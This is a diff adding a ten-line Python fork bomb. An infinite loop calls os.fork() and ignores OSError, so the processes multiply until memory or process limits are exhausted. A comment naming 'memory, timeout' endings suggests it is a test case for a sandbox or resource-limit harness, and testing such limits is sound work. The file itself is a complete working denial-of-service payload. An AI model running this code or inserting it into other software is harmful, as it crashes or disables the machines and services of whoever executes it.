@@ -1,0 +1,10 @@
+"""A fork bomb, whose every process forks on."""
+# ends: memory, timeout
+
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
